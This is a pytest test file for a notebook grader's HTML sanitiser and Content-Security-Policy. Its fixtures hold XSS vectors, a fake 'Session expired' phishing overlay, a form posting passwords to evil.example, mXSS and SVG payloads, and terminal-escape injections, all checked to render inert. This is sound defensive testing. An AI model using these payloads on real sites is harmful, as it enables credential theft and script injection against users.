"""Hostile notebooks through the instructor's record: whatever a student puts in a notebook
(Markdown cells, ```mermaid fences, raw HTML, text/html and text/markdown outputs, SVG with
scripts, attachments, javascript:/data: links, <meta refresh>, <base>, <form>, styles), the
record written by `grader grade --report` and by a batch holds nothing outside the
allowlist below. The pages are parsed as a DOM (html.parser) and every tag, attribute, class
and URL scheme of the student's part of the page is checked; SVG pictures are decoded and
checked as XML. Also: the pages' Content-Security-Policies."""
from __future__ import annotations

import base64
import io
import re
from html.parser import HTMLParser
from xml.etree import ElementTree

import nbformat
import pytest
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output

from conftest import run_grader

EVIL = "https://evil.example"
OVERLAY = (f'<div style="position:fixed;inset:0;z-index:2147483647;background:#fff">'
           f'<h1>Session expired</h1><p>Please <a href="{EVIL}/login">sign in again</a>.</p></div>'
           f'<meta http-equiv="refresh" content="0;url={EVIL}/phish">')
# every way of making the page act, load, redirect, post, restyle or pose that a student could try
ACTIVE_HTML = OVERLAY + (
    f'<base href="{EVIL}/"><link rel="stylesheet" href="{EVIL}/x.css"><style>body{{display:none}}</style>'
    f'<form action="{EVIL}/steal" method="post"><input type="password" name="pw" placeholder="Password">'
    f'<button formaction="{EVIL}/b">Sign in</button><select><option>x</option></select><textarea>t</textarea></form>'
    f'<iframe src="{EVIL}/frame" srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>'
    f'<object data="{EVIL}/o.swf"></object><embed src="{EVIL}/e.swf"><script>alert("md")</script>'
    '<img src="x" onerror="alert(1)"><img src="data:text/html;base64,PHNjcmlwdD4=">'
    f'<img src="{EVIL}/pixel.png" srcset="{EVIL}/2x.png 2x"><video src="{EVIL}/v.mp4" poster="{EVIL}/p.png"></video>'
    '<a href="javascript:alert(1)">js</a> <a href="JaVaScRiPt&#58;alert(1)">js2</a> '
    '<a href="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;">data link</a> '
    '<a href="vbscript:msgbox(1)">vb</a> <a href="#main" id="main" name="x" target="_top">frag</a> '
    '<a href="../reports/bob.html">relative</a> '
    '<p class="record notice failure-reason" id="scores-heading" style="color:red" onclick="alert(1)" '
    'onmouseover="alert(2)" role="alert" data-x="1" tabindex="1" contenteditable="true">posing</p>'
    '<svg onload="alert(1)"><foreignObject><div>inline svg</div></foreignObject><script>alert(3)</script></svg>'
    '<math><mi><style><img src=x onerror=alert(4)></style></mi><mtext><a href="javascript:alert(5)">m</a></mtext></math>'
    '<noscript><p title="</noscript><img src=x onerror=alert(6)>"></p></noscript>'
    '<math><mpadded voffset="3000px" lspace="-60em" width="-1em"><mtext>over the header</mtext></mpadded></math>'
    '<math><mpadded height="0" depth="0"><mtable>' + '<mtr><mtd><mtext>tall</mtext></mtd></mtr>' * 400 +
    '</mtable></mpadded></math><math>'
    '<mstyle scriptlevel="-40"><mi>huge</mi></mstyle><mspace width="-800px"></mspace></math>'
    '<template><img src=x onerror=alert(7)></template><details open ontoggle="alert(8)"><summary>s</summary></details>'
    '<marquee>m</marquee><dialog open>d</dialog><!-- <img src=x onerror=alert(9)> -->')
HOSTILE_SVG = (
    '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="20" height="10" '
    'onload="alert(1)"><script>alert(2)</script><style>@import url(https://evil.example/s.css);</style>'
    '<foreignObject width="20" height="10"><div xmlns="http://www.w3.org/1999/xhtml">'
    '<meta http-equiv="refresh" content="0;url=https://evil.example"/></div></foreignObject>'
    '<a href="https://evil.example"><rect width="10" height="10" fill="url(https://evil.example/g#x)" '
    'style="fill:url(https://evil.example/f)" onclick="alert(3)"/></a>'
    '<image href="https://evil.example/i.png" width="1" height="1"/><use xlink:href="https://evil.example/u.svg#a"/>'
    '<circle id="c" cx="15" cy="5" r="4" fill="#d55e00"/><use href="#c"/></svg>')
PNG_1x1 = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8DwHwAFBQIAX8jx0gAAAABJRU5ErkJggg=="


def hostile_notebook(code: str = "x = 1\n") -> nbformat.NotebookNode:
    """A notebook trying every path into the record at once; `code` is its gradable code."""
    mermaid = f"Diagram:\n\n```mermaid\n{OVERLAY}\n```\n\n```mermaid\ngraph TD; A-->B\n```\n"
    links = (f"[sign in again]({EVIL}/login) [js](javascript:alert(1)) [data](data:text/html,x) "
             f"<{EVIL}/auto> ![remote]({EVIL}/pixel.png) ![svg](attachment:evil.svg) "
             "![inline svg](data:image/svg+xml;base64," + base64.b64encode(HOSTILE_SVG.encode()).decode() + ")"
             f" [rel](../reports/bob.html) [frag](#main)\n\n$x < 1$ and $$\\frac{{a}}{{b}}$$")
    attached = new_markdown_cell(links)
    attached.attachments = {"evil.svg": {"image/svg+xml": HOSTILE_SVG}}
    raw = new_markdown_cell("# Raw HTML\n\n" + ACTIVE_HTML)
    raw.metadata["tags"] = ["x record notice", "a\" onclick=\"alert(1)"]
    outputs = [
        new_output("display_data", data={"text/html": ACTIVE_HTML, "text/plain": "html"}),
        new_output("display_data", data={"text/markdown": mermaid}),
        new_output("display_data", data={"image/svg+xml": HOSTILE_SVG}),
        new_output("display_data", data={"text/vnd.mermaid": f"graph TD; Z-->Y\n{OVERLAY}", "text/plain": "diagram"}),
        new_output("display_data", data={"text/latex": "$<script>alert(1)</script>$"}),
        new_output("display_data", data={"application/javascript": "alert('js')", "text/plain": "js"}),
        new_output("display_data", data={"image/png": PNG_1x1},
                   metadata={"image/png": {"width": "1 onerror=alert(1)", "height": "9" * 20}}),
        new_output("stream", name="stdout", text=f"printed {OVERLAY}\n\x1b[38;5;196mcolour\x1b[0m \x1b]8;;{EVIL}\x07osc\n"),
        new_output("error", ename="Evil<b>", evalue=OVERLAY, traceback=[f"\x1b[31m{OVERLAY}\x1b[0m"]),
    ]
    cells = [new_markdown_cell(mermaid), attached, raw, new_code_cell(code, execution_count=1, outputs=outputs)]
    return new_notebook(cells=cells, metadata={"language_info": {"name": "python", "pygments_lexer": "x\" onload=\"y"}})


# --- the allowlist, stated independently of the sanitiser's own tables ----------------------

TAGS = {"a", "abbr", "b", "blockquote", "br", "caption", "cite", "code", "col", "colgroup", "dd", "del",
        "details", "dfn", "div", "dl", "dt", "em", "figcaption", "figure", "h1", "h2", "h3", "h4", "h5",
        "h6", "hr", "i", "img", "input", "ins", "kbd", "li", "mark", "ol", "p", "pre", "q", "s", "samp",
        "small", "span", "strong", "sub", "summary", "sup", "table", "tbody", "td", "tfoot", "th", "thead",
        "tr", "u", "ul", "var", "wbr", "math", "semantics", "mrow", "mi", "mn", "mo", "ms", "mtext",
        "mspace", "mfrac", "msqrt", "mroot", "msub", "msup", "msubsup", "munder", "mover", "munderover",
        "mtable", "mtr", "mtd", "mstyle", "mphantom", "menclose"}
FORBIDDEN_TAGS = {"script", "style", "meta", "base", "link", "form", "input-text", "button", "select",
                  "textarea", "iframe", "object", "embed", "svg", "foreignobject", "video", "audio", "source",
                  "template", "noscript", "marquee", "dialog", "frame", "frameset", "applet", "title"}
ATTRIBUTES = {"href", "src", "alt", "title", "width", "height", "class", "rel", "colspan", "rowspan", "align",
              "scope", "start", "reversed", "open", "checked", "disabled", "type", "lang",
              "display", "mathvariant", "stretchy", "fence", "separator", "accent", "lspace", "rspace",
              "displaystyle", "scriptlevel", "movablelimits", "largeop", "linethickness", "columnalign",
              "symmetric", "minsize", "maxsize", "accentunder", "notation", "rowalign", "columnspacing",
              "rowspacing", "depth"}
SVG_ELEMENTS = {"svg", "g", "defs", "symbol", "use", "path", "rect", "circle", "ellipse", "line", "polyline",
                "polygon", "text", "tspan", "title", "desc", "clipPath", "mask", "pattern", "marker",
                "linearGradient", "radialGradient", "stop", "image", "switch"}


class Dom(HTMLParser):
    """Every start tag of a page, in order, with its attributes (as a browser would read them)."""

    def __init__(self, page: str):
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict]] = []
        self.feed(page)

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, {name: value or "" for name, value in attrs}))

    handle_startendtag = handle_starttag


def student_part(page: str) -> list[tuple[str, dict]]:
    """The tags of a record after its own heading (h1.record): the cells, i.e. everything made
    from the student's notebook."""
    tags = Dom(page).tags
    heading = next(i for i, (tag, attrs) in enumerate(tags) if tag == "h1" and attrs.get("class") == "record")
    return tags[heading + 1:]


def svg_violations(uri: str) -> list[str]:
    """What a data:image/svg+xml picture holds beyond drawing (it must parse as XML)."""
    svg = ElementTree.fromstring(base64.b64decode(uri.split(",", 1)[1]))
    problems = []
    for element in svg.iter():
        name = element.tag.split("}")[-1]
        if name not in SVG_ELEMENTS:
            problems.append(f"svg element {name}")
        for attr, value in element.attrib.items():
            local = attr.split("}")[-1]
            if local.lower().startswith("on"):
                problems.append(f"svg event attribute {local}")
            if local == "href" and not (value.startswith("#") or re.fullmatch(r"data:image/(png|jpeg|gif);base64,[A-Za-z0-9+/=]+", value)):
                problems.append(f"svg reference {value[:40]}")
            if re.search(r"url\(\s*['\"]?(?!#)", value):
                problems.append(f"svg outside url in {local}")
    return problems


def allowlist_violations(page: str) -> list[str]:
    """Everything in the student's part of a record that the allowlist does not allow."""
    from grader.render.student_html import ALLOWED_CLASSES

    problems = []
    for tag, attrs in student_part(page):
        if tag not in TAGS or tag in FORBIDDEN_TAGS:
            problems.append(f"tag {tag}")
        for name, value in attrs.items():
            if name not in ATTRIBUTES or name.startswith("on") or name in ("style", "id", "name", "srcset", "target"):
                problems.append(f"attribute {name} on {tag}")
        for cls in attrs.get("class", "").split():
            if cls not in ALLOWED_CLASSES or cls in {"record", "notice", "failure-reason", "warning", "total"}:
                problems.append(f"class {cls}")
        if tag == "a" and "href" in attrs:
            if not re.match(r"(https?://|mailto:)", attrs["href"]):
                problems.append(f"link {attrs['href'][:40]}")
            if set(attrs.get("rel", "").split()) != {"noopener", "noreferrer", "nofollow"}:
                problems.append(f"link rel {attrs.get('rel')}")
        if tag == "img":
            src = attrs.get("src", "")
            if src.startswith("data:image/svg+xml;base64,"):
                problems += svg_violations(src)
            elif src and not re.fullmatch(r"data:image/(png|jpeg|gif);base64,[A-Za-z0-9+/=]+", src):
                problems.append(f"image {src[:40]}")
        if tag == "input" and (attrs.get("type") != "checkbox" or "disabled" not in attrs):
            problems.append(f"input {attrs}")
        for name in ("width", "height"):
            if tag == "img" and name in attrs and not re.fullmatch(r"\d{1,4}", attrs[name]):
                problems.append(f"{name}={attrs[name][:20]}")
        for name in ("lspace", "rspace", "width", "height", "depth", "scriptlevel"):
            if tag in TAGS and tag.startswith("m") and "-" in attrs.get(name, ""):
                problems.append(f"negative {name} on {tag}")
    return problems


def page_level_violations(page: str) -> list[str]:
    """The page as a whole: one CSP (tight), no refresh, no base, no form, no script anywhere."""
    tags = Dom(page).tags
    problems = [f"tag {tag}" for tag, _ in tags if tag in ("script", "base", "form", "iframe", "object", "embed", "link")]
    metas = [attrs for tag, attrs in tags if tag == "meta"]
    problems += [f"meta {m}" for m in metas if m.get("http-equiv", "").lower() == "refresh"]
    policies = [m["content"] for m in metas if m.get("http-equiv", "").lower() == "content-security-policy"]
    if len(policies) != 1:
        problems.append(f"{len(policies)} CSP meta tags")
    else:
        directives = {}
        for directive in policies[0].split(";"):
            name, _, value = directive.strip().partition(" ")
            directives[name] = value.strip()
        for name, want in (("default-src", "'none'"), ("base-uri", "'none'"), ("form-action", "'none'"), ("img-src", "data:")):
            if directives.get(name) != want:
                problems.append(f"CSP {name} {directives.get(name)}")
        if "unsafe" in policies[0] or "script-src" in policies[0]:
            problems.append(f"CSP {policies[0]}")
    return problems


def assert_clean_record(page: str) -> None:
    assert page_level_violations(page) == []
    assert allowlist_violations(page) == []
    assert EVIL + "/phish" not in page.split("</head>")[0]
    text = re.sub(r"<[^>]*>", "", page)
    assert "Session expired" in text  # the attempt is visible as text, not dropped silently ...
    assert "(https://evil.example/login)" in text  # ... and a link shows where it goes


# --- the record as grade --report and batch write it ----------------------------------------

def test_hostile_notebook_record_from_grade_report_holds_only_the_allowlist(optimizers, tmp_path):
    submission = tmp_path / "mallory.ipynb"
    nbformat.write(hostile_notebook(optimizers.reference_path.read_text()), submission)
    report = tmp_path / "out" / "mallory.html"
    completed = run_grader("grade", "optimizers", str(submission), "--report", str(report))
    assert completed.returncode == 0, completed.stderr
    record = (tmp_path / "out" / "mallory.notebook.html").read_text(encoding="utf-8")
    assert_clean_record(record)
    assert page_level_violations(report.read_text(encoding="utf-8")) == []


def test_hostile_notebook_record_from_a_batch_holds_only_the_allowlist(optimizers, tmp_path):
    from grader.batch import run_batch
    from grader.batch.layout import DASHBOARD_NAME, notebook_record_path, report_path
    from test_batch_fakes import fake_grade

    cohort = tmp_path / "cohort"
    cohort.mkdir()
    nbformat.write(hostile_notebook("gd_step = 3\n"), cohort / "mallory.ipynb")
    out = tmp_path / "out"
    run_batch(optimizers, cohort, out, grade_fn=fake_grade, stream=io.StringIO(), workers=1)
    assert_clean_record(notebook_record_path(out, "mallory").read_text(encoding="utf-8"))
    for page in (report_path(out, "mallory"), out / DASHBOARD_NAME):
        assert page_level_violations(page.read_text(encoding="utf-8")) == []


# --- what each path renders to (no grading: the record of a notebook file) ------------------

@pytest.fixture(scope="module")
def record(tmp_path_factory) -> str:
    from grader.notebooks import notebook_record_html

    path = tmp_path_factory.mktemp("hostile") / "mallory.ipynb"
    nbformat.write(hostile_notebook(), path)
    return notebook_record_html(path)


def test_the_mermaid_overlay_is_shown_as_code_not_rendered(record):
    assert_clean_record(record)
    cells = record.split('class="record"', 1)[1]
    assert "&lt;meta http-equiv=&quot;refresh&quot;" in cells or "&lt;meta http-equiv=\"refresh\"" in cells
    assert "graph TD; A--&gt;B" in cells  # an honest diagram shows its source, in Markdown ...
    assert "graph TD; Z--&gt;Y" in cells  # ... or as a text/vnd.mermaid output


def test_images_are_only_the_notebooks_own_and_svg_is_redrawn_without_its_payload(record):
    images = [attrs.get("src", "") for tag, attrs in student_part(record) if tag == "img"]
    svgs = [src for src in images if src.startswith("data:image/svg+xml")]
    assert len(svgs) == 3  # the output, the attachment, the Markdown data: URI
    for src in svgs:
        svg = ElementTree.fromstring(base64.b64decode(src.split(",", 1)[1]))
        circles = [e for e in svg.iter() if e.tag.endswith("circle")]
        assert circles and circles[0].get("fill") == "#d55e00"  # the drawing survives ...
        assert svg_violations(src) == []  # ... its payload does not
    assert f"data:image/png;base64,{PNG_1x1}" in images
    assert "https://evil.example/pixel.png" in re.sub(r"<[^>]*>", "", record)  # named, not loaded


def test_links_are_outside_addresses_only_and_show_where_they_go(record):
    links = [attrs for tag, attrs in student_part(record) if tag == "a"]
    targets = {a.get("href") for a in links}
    assert targets - {None} == {f"{EVIL}/login", f"{EVIL}/auto"}
    assert all(a.get("rel") == "noopener noreferrer nofollow" for a in links)


def test_styles_ids_and_posing_classes_of_the_student_are_gone(record):
    for tag, attrs in student_part(record):
        assert "style" not in attrs and "id" not in attrs and not any(n.startswith("on") for n in attrs)
    assert "celltag_" not in record and "onload" not in record.split("</head>")[0]


def test_printed_ansi_colours_become_classes_not_styles(record):
    assert "colour" in record and "rgb(" not in record.split("</style>", 1)[1]


# --- the sanitiser itself -------------------------------------------------------------------

def test_the_sanitiser_is_idempotent_and_keeps_markdowns_structure():
    from grader.render.student_html import clean_fragment

    fragment = ('<h2>T</h2><p><em>a</em> <code>b</code></p><table><thead><tr><th align="right">x</th></tr></thead>'
                '<tbody><tr><td colspan="2">1</td></tr></tbody></table><ul><li><input type="checkbox" checked> done</li></ul>'
                '<pre><code>x &lt; 1</code></pre><p><a href="https://a.example/">docs</a></p>')
    once = clean_fragment(fragment)
    assert clean_fragment(once) == once
    assert [t for t, a in Dom(once).tags if a.get("class") != "link-address"] == [t for t, _ in Dom(fragment).tags]
    assert ('input', {'checked': '', 'disabled': 'disabled', 'type': 'checkbox'}) in Dom(once).tags


def test_a_link_whose_text_is_its_address_is_not_repeated():
    from grader.render.student_html import clean_fragment

    assert "link-address" not in clean_fragment('<a href="https://a.example/x">https://a.example/x</a>')
    shown = clean_fragment('<a href="https://a.example/x?a=1&amp;b=&quot;2&quot;">docs</a>')
    assert re.sub(r"<[^>]*>", "", shown) == 'docs (https://a.example/x?a=1&amp;b="2")'


# --- every page's Content-Security-Policy ---------------------------------------------------

def test_each_page_allows_exactly_its_own_style_sheet(record, tmp_path):
    from grader.render.csp import style_hash

    from test_report_html import assignment, sample_result
    from grader.render.html import render_report

    for page in (record, render_report(sample_result(), assignment(), plots=False)):
        head = page.split("</head>")[0]
        policy = next(a["content"] for t, a in Dom(head).tags if t == "meta" and a.get("http-equiv") == "Content-Security-Policy")
        sheets = re.findall(r"<style>(.*?)</style>", head, re.S)
        assert sheets and f"style-src {' '.join(style_hash(css) for css in sheets)};" in policy
        assert "'unsafe-inline'" not in policy and not [a for _, a in Dom(page).tags if "style" in a]


# --- math ----------------------------------------------------------------------------------

def test_latex_becomes_mathml_without_anything_active():
    from grader.render.mathml import latex_to_mathml, math_html

    adam = latex_to_mathml(r"\theta_{t+1} = \theta_t - \eta \frac{\hat m_t}{\sqrt{\hat v_t} + \epsilon}", display=True)
    tags = [t for t, _ in Dom(adam).tags]
    assert tags[0] == "math" and {"mfrac", "msqrt", "msub", "mover"} <= set(tags)
    assert Dom(adam).tags[0][1] == {"title": r"\theta_{t+1} = \theta_t - \eta \frac{\hat m_t}{\sqrt{\hat v_t} + \epsilon}",
                                    "display": "block"}
    for hostile in (r"\href{javascript:alert(1)}{x}", r"\style{position:fixed;inset:0}{x}", "<script>alert(1)</script>",
                    r"\color{red}{x}", r"\text{</math><img src=x onerror=alert(1)>}"):
        markup = math_html(hostile)
        for tag, attrs in Dom(markup).tags:
            assert tag in TAGS and set(attrs) <= ATTRIBUTES and "href" not in attrs, (hostile, tag, attrs)
    assert math_html(r"\begin{nosuchenv}", display=True) == r"$$\begin{nosuchenv}$$"  # not convertible: source
    assert math_html("x" * 3000) == "$" + "x" * 3000 + "$"


# --- the report: a student's printed output and exception text are escaped text -------------

def test_hostile_output_and_names_leave_the_reports_dom_unchanged():
    """A report whose student id, printed output, exception text, warning and feedback hold
    the whole hostile HTML has exactly the elements and attribute names of the same report
    with plain text there: nothing of the student's became markup."""
    from grader.render.html import render_report
    from test_report_html import assignment, sample_result

    def report(text: str) -> str:
        result = sample_result(student=f"m{text}", warnings=[text])
        result.parts[1].feedback = text
        for test in result.tests:
            test.output = f"Traceback: ValueError: {text}\n{text}"
        return render_report(result, assignment(), plots=False)

    def shape(page: str) -> list:
        return [(tag, sorted(attrs)) for tag, attrs in Dom(page).tags]

    hostile = report(ACTIVE_HTML + "\x1b[2J\x1b]8;;https://evil.example\x07")
    assert shape(hostile) == shape(report("plain text"))
    assert page_level_violations(hostile) == []
    assert "Session expired" in re.sub(r"<[^>]*>", "", hostile)  # shown, as text


def test_the_notebooks_text_never_reaches_the_graders_terminal_as_a_warning(tmp_path):
    """nbconvert warns about an unknown lexer by quoting its name: a student's string,
    escape sequences and all. The record is made without letting warnings out."""
    import warnings

    from grader.render.notebook_record import record_html

    notebook = hostile_notebook()
    notebook.metadata["language_info"]["pygments_lexer"] = "\x1b[2J\x1b[31mpwned"
    notebook.cells[-1].metadata["magics_language"] = "\x1b]0;title\x07"
    with warnings.catch_warnings(record=True) as caught:
        warnings.simplefilter("always")
        record = record_html(nbformat.writes(notebook), "mallory")
    assert caught == [] and "\x1b" not in record


def test_a_pandas_table_keeps_its_cells_and_loses_its_style_sheet():
    from grader.render.student_html import clean_fragment

    frame = ('<div><style scoped>.dataframe tbody tr th:only-of-type {vertical-align: middle;}</style>'
             '<table border="1" class="dataframe"><thead><tr style="text-align: right;"><th></th><th>loss</th></tr>'
             '</thead><tbody><tr><th>0</th><td>0.25</td></tr></tbody></table></div>')
    cleaned = clean_fragment(frame)
    assert [t for t, _ in Dom(cleaned).tags] == ["div", "table", "thead", "tr", "th", "th", "tbody", "tr", "th", "td"]
    assert "vertical-align" not in cleaned and "style" not in cleaned and "0.25" in cleaned
